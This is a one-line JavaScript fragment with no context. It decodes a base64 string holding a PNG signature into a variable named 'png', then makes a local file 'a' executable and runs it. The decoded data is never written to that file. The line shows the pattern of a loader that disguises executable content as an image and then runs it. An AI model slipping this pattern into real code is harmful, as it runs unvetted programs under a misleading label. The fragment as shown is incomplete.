const png = Buffer.from("iVBORw0KGgo=", "base64"); fs.chmodSync("a", 0o755); exec("./a")
